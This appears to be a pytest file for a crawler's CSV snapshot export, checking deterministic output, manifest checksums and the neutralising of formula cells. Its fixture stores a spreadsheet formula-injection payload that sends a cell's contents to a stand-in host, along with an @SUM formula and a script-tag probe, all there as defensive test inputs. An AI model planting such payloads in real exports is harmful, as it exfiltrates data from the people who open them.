"""CSV snapshots: deterministic bytes, formula cells neutralised, manifest with checksums."""

from __future__ import annotations

import hashlib
import json

from crawler.snapshot import neutralise, write_snapshot
from crawler.storage import open_database, start_run, store_batch


def build_db(path):
    db = open_database(path)
    start_run(db, {"id": "r1", "started_at": "2026-05-01T06:00:00+00:00"})
    item = {
        "id": "evil.example", "url": "https://evil.example/", "seed_url": "https://evil.example/",
        "name": '=HYPERLINK("http://x/?"&A1,"click")', "description": "@SUM(1+1) <script>alert(1)</script>",
        "status": "alive", "languages": ["en"], "metrics": {"members": 5},
        "evidence": {"members": {"source_url": "https://evil.example/", "rule": "generic.text",
                                 "snippet": "-5 members", "approximate": True,
                                 "observed_at": "2026-05-01T06:00:00+00:00"}},
        "observed_at": "2026-05-01T06:00:00+00:00",
    }
    store_batch(db, "r1", "2026-05-01T06:00:00+00:00", [item], [])
    db.close()


def test_neutralise():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("+33 1") == "'+33 1"
    assert neutralise("-x") == "'-x"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("Club") == "Club"
    assert neutralise(-5) == -5


def test_snapshot_is_deterministic_and_neutralised(tmp_path):
    build_db(tmp_path / "c.db")
    first = write_snapshot(tmp_path / "c.db", tmp_path / "a", date="2026-11-28")
    second = write_snapshot(tmp_path / "c.db", tmp_path / "b", date="2026-11-28")
    for name in sorted(p.name for p in first.iterdir()):
        assert (first / name).read_bytes() == (second / name).read_bytes(), name
    communities = (first / "communities.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in communities
    assert "'@SUM(1+1)" in communities
    manifest = json.loads((first / "manifest.json").read_text())
    assert manifest["tables"]["communities"]["rows"] == 1
    assert manifest["tables"]["observations"]["rows"] == 1
    data = (first / "observations.csv").read_bytes()
    assert manifest["tables"]["observations"]["sha256"] == hashlib.sha256(data).hexdigest()
    assert manifest["schema_version"] == 1
    assert manifest["coverage"]["sites_by_status"] == {"alive": 1}
    assert b"\r\n" not in data
